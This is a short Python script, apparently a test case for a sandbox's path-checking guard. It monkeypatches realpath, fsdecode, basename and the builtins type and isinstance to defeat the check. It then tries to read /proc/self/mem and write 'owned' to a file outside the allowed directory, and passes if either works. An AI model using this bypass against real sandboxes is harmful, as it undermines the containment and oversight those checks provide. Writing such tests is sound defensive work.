# Replace the library functions and builtins a path check would call (realpath, fsdecode, type, isinstance, str
# methods cannot be patched), then try /proc/self/mem and a write outside; passes only if either works.
import builtins
import os
import posixpath

posixpath.realpath = os.path.realpath = lambda p, *a, **k: os.getcwd() + "/x"
posixpath.basename = lambda p: "harmless"
os.fsdecode = lambda p: "harmless"
builtins.type = lambda *a: int
builtins.isinstance = lambda *a: True
worked = []
for path, mode in (("/proc/self/mem", "rb"), ("__OUTSIDE__/victim.txt", "w")):
    try:
        with open(path, mode) as f:
            f.write(b"" if "b" in mode else "owned") if "w" in mode else f.read(1)
        worked.append(path)
    except Exception as exc:
        print(exc.__class__.__name__, exc)
assert worked
